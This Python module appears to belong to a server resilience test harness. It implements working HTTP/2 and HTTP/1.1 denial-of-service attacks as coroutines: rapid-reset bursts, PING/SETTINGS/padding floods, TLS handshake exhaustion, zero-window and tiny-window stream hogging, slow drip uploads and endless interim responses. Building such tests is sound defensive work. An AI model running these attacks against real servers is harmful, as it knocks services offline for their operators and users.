"""Attacks as coroutines: the measurement strangers runs each of them once, soak all of them together for a long time."""
import asyncio
import ssl
import time

from . import frames
from .client import CONTEXTS, NAME, Client, Http2

# What paces the rapid reset: so many requests, this long until they are reset.
BURST, PAUSE = 16, 0.004
# The flag of DATA with padding.
PADDED = 8
# Streams that a client asks on who reads nothing, if the server allows so many.
STREAMS = 128


def get(path, *lines):
    return "\r\n".join([f"GET {path} HTTP/1.1", f"Host: {NAME}", *lines, "", ""]).encode()


def post(path, length):
    return f"POST {path} HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {length}\r\n\r\n".encode()


async def paced_resets(port, path, seconds):
    """Asks on 16 streams, waits until the server has accepted them, resets them, and again, until it is cut or the time
    is over. Returns the streams opened, the seconds, and how the server ended it, or None."""
    client = await Http2.start(port)
    began, stream = time.monotonic(), 1
    try:
        while time.monotonic() - began < seconds and not client.ended():
            streams = range(stream, stream + 2 * BURST, 2)
            await client.send(b"".join(frames.head(number, NAME, path) for number in streams))
            await asyncio.sleep(PAUSE)
            await client.send(b"".join(frames.reset(number) for number in streams))
            stream += 2 * BURST
            await client.read(0)
        if not client.ended():
            await client.read(0.2)
        return (stream - 1) // 2, time.monotonic() - began, client.ended()
    finally:
        client.close()


async def resets_again_and_again(port, path, seconds):
    """The same by a client that connects anew whenever it was cut. Returns streams and connections."""
    until, opened, connections = time.monotonic() + seconds, 0, 0
    while time.monotonic() < until:
        try:
            streams, _, _ = await paced_resets(port, path, until - time.monotonic())
            opened, connections = opened + streams, connections + 1
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.01)
    return opened, connections


async def flood(port, piece, seconds, pause=PAUSE, begin=b""):
    """Sends 100 times this frame after `begin`, again and again. Returns the frames, the seconds, and how the server ended it."""
    client = await Http2.start(port)
    await client.send(begin)
    began, sent = time.monotonic(), 0
    try:
        while time.monotonic() - began < seconds and not client.ended():
            await client.send(piece * 100)
            sent += 100
            await asyncio.sleep(pause)
            await client.read(0)
        return sent, time.monotonic() - began, client.ended()
    finally:
        client.close()


PING_FLOOD = frames.frame(frames.PING, payload=bytes(8))
# Frames without effect by name, and the frames before them: an upload whose data consists of padding only.
FLOODS = {
    "PING": (PING_FLOOD, b""),
    "SETTINGS": (frames.frame(frames.SETTINGS), b""),
    "SETTINGS ACK": (frames.frame(frames.SETTINGS, frames.ACK), b""),
    "padding": (frames.frame(frames.DATA, PADDED, 1, bytes([64]) + bytes(64)),
                frames.head(1, NAME, "/hang/padding", "POST", end=False)),
}


def hello():
    """A hello that any number of connections can begin with."""
    outgoing = ssl.MemoryBIO()
    try:
        CONTEXTS["h2"].wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=NAME).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def bare_hello(port, hello):
    """Sends a hello, waits for the answer that costs the server a signature, and resets the connection."""
    client = Client(port)
    await client.open()
    try:
        await asyncio.get_running_loop().sock_sendall(client.socket, hello)
        await client.receive_raw(5)
    finally:
        client.reset()


async def asking(port, path, count):
    """Clients that have asked over HTTP/1.1, each on a connection of its own."""
    async def one():
        client = await Client.connect(port)
        await client.send(get(path))
        return client
    return await asyncio.gather(*(one() for _ in range(count)))


async def ask_and_vanish(port, path):
    """Asks, and is gone with RST as soon as the request can have reached the upstream."""
    client = await Client.connect(port)
    await client.send(get(path))
    await asyncio.sleep(0.05)
    client.reset()


async def reading_nothing(port, path, streams=STREAMS):
    """Asks on as many streams as the server allows, with windows as large as can be. The kernel takes a few KiB."""
    client = await Http2.start(port, receive_buffer=4096, window=frames.LARGEST_WINDOW, open_window=0x70000000)
    allowed = min(streams, client.settings.get(frames.MAX_STREAMS, streams))
    await client.send(b"".join(frames.head(2 * number + 1, NAME, path) for number in range(allowed)))
    client.streams = allowed
    return client


class Streams:
    """What becomes of the streams of one connection while its client goes on reading."""

    def __init__(self, client):
        self.client, self.began = client, time.monotonic()
        self.statuses, self.bytes, self.ends, self.cut = {}, {}, {}, None

    def seconds(self):
        return time.monotonic() - self.began

    async def watch(self, seconds, until=lambda streams: False):
        while self.seconds() < seconds and not self.cut and not until(self):
            for kind, flags, stream, payload in await self.client.read(min(0.25, seconds)):
                if kind == frames.HEADERS and stream not in self.statuses:
                    self.statuses[stream] = frames.status(payload)
                if kind == frames.DATA:
                    self.bytes[stream] = self.bytes.get(stream, 0) + len(payload)
                if kind == frames.RST_STREAM:
                    self.ends.setdefault(stream, (f"reset {frames.error(payload)}", self.seconds()))
                elif kind in (frames.HEADERS, frames.DATA) and flags & frames.END_STREAM:
                    self.ends.setdefault(stream, ("complete", self.seconds()))
                elif kind == frames.GOAWAY and frames.error(payload) != "NO_ERROR":
                    self.cut = (f"GOAWAY {frames.error(payload)}", self.seconds())
            if self.client.over:
                self.cut = self.cut or (f"connection {self.client.over}", self.seconds())


async def stalled_beside(port, stalled, waiting, seconds):
    """Stream 1 gets an answer for which it opens no window (`stalled` = "/big") or whose client and upstream fall silent in
    both directions ("/watch"); stream 3 waits for an answer that takes longer than streams may stand still."""
    client = await Http2.start(port, open_window=1 << 30)
    begin = frames.head(1, NAME, stalled, method="GET" if stalled.startswith("/big") else "POST",
                        end=stalled.startswith("/big"))
    await client.send(begin + frames.head(3, NAME, waiting))
    streams = Streams(client)
    await streams.watch(seconds, lambda streams: 3 in streams.ends)
    client.close()
    return streams


async def drip(port, path, protocol, seconds, pause=0.3):
    """An upload of which a byte comes every 0.3 s. Returns the status that came of it, how it ended, and when."""
    began = time.monotonic()
    if protocol == "h2":
        client = await Http2.start(port, open_window=1 << 20)
        await client.send(frames.head(1, NAME, path, "POST", [("content-length", "100000")], end=False))
        streams, byte = Streams(client), frames.frame(frames.DATA, 0, 1, b"x")
    else:
        client, answer, byte = await Client.connect(port), b"", b"x"
        await client.send(post(path, 100000))
    status = end = None
    while time.monotonic() - began < seconds and not end:
        await client.send(byte)
        if protocol == "h2":
            await streams.watch(streams.seconds() + pause, lambda streams: 1 in streams.ends)
            status, end = streams.statuses.get(1), streams.ends.get(1, streams.cut or (None,))[0]
        else:
            answer += await client.receive(pause)
            end = client.over or ("complete" if b"\r\n\r\n" in answer else None)
            status = int(answer.split(b" ", 2)[1]) if b" " in answer else None
            if answer and not end:
                await asyncio.sleep(0)
        await asyncio.sleep(max(0, pause - (time.monotonic() - began) % pause))
    client.close()
    return status, end, time.monotonic() - began


async def endless_interim(port, path, protocol, seconds):
    """Asks for a response that has no end of interim ones. Returns the final status or the end, and the interim responses."""
    began, count, text = time.monotonic(), 0, b""
    client = await (Http2.start(port) if protocol == "h2" else Client.connect(port))
    await client.send(frames.head(1, NAME, path) if protocol == "h2" else get(path))
    status = None
    while time.monotonic() - began < seconds and not status and not client.over:
        if protocol == "h2":
            statuses = [frames.status(payload) for kind, _, _, payload in await client.read(0.25) if kind == frames.HEADERS]
        else:
            *heads, text = (text + await client.receive(0.25)).split(b"\r\n\r\n")
            statuses = [int(head.split(b" ", 2)[1]) for head in heads if head.startswith(b"HTTP/")]
        count += statuses.count(103)
        status = next((status for status in statuses if status and status >= 200), None)
    taken, end = time.monotonic() - began, status or client.over
    client.close()
    return f"{f'{end} after {taken:.1f} s' if end else 'goes on'}, {count:,} interim responses"


async def reading_slowly(port, path, streams=STREAMS):
    """Asks for compressed responses on as many streams as the server allows, with windows of a few bytes."""
    client = await Http2.start(port, receive_buffer=4096, window=100, open_window=0x70000000)
    client.streams = min(streams, client.settings.get(frames.MAX_STREAMS, streams))
    fields = [("accept-encoding", "gzip")]
    await client.send(b"".join(frames.head(2 * number + 1, NAME, f"{path}/{number}", headers=fields)
                               for number in range(client.streams)))
    return client


async def open_windows(clients, seconds, bytes_each=100, pause=0.5):
    """Opens the window of every stream by a few bytes, again and again."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for client in clients:
            await client.send(b"".join(frames.window(bytes_each, 2 * number + 1) for number in range(client.streams)))
            await client.read(0)
        await asyncio.sleep(pause)


async def resetting_often(port, path, rounds, wait=0.05):
    """The client opens 16 streams, resets them after their responses have begun, and again. The streams opened, and how the
    server ended the connection, or None."""
    client = await Http2.start(port, open_window=1 << 30)
    try:
        for number in range(rounds):
            streams = range(1 + 2 * BURST * number, 1 + 2 * BURST * (number + 1), 2)
            await client.send(b"".join(frames.head(stream, NAME, path) for stream in streams))
            await asyncio.sleep(wait)
            await client.send(b"".join(frames.reset(stream) for stream in streams))
            await client.read(0)
            if client.ended():
                break
        return BURST * (number + 1), client.ended()
    finally:
        client.close()


async def download(port, path, seconds):
    """A download over HTTP/2: its bytes, and how it ended."""
    client = await Http2.start(port, open_window=1 << 30)
    await client.send(frames.head(1, NAME, path))
    streams = Streams(client)
    await streams.watch(seconds, lambda streams: 1 in streams.ends)
    client.close()
    return streams.bytes.get(1, 0), streams.ends.get(1, streams.cut or ("no end", 0))[0]


async def trickle(port, path, first, length, seconds, bytes_each=500, pause=0.5):
    """An upload over HTTP/1.1 whose beginning comes at once and the rest slowly. The status or the end, and when."""
    client = await Client.connect(port)
    began, answer = time.monotonic(), b""
    await client.send(post(path, length) + b"x" * first)
    while time.monotonic() - began < seconds and not client.over and b"\r\n\r\n" not in answer:
        answer += await client.receive(pause)
        await client.send(b"x" * bytes_each)
    client.close()
    return int(answer.split(b" ", 2)[1]) if b" " in answer else client.over, time.monotonic() - began
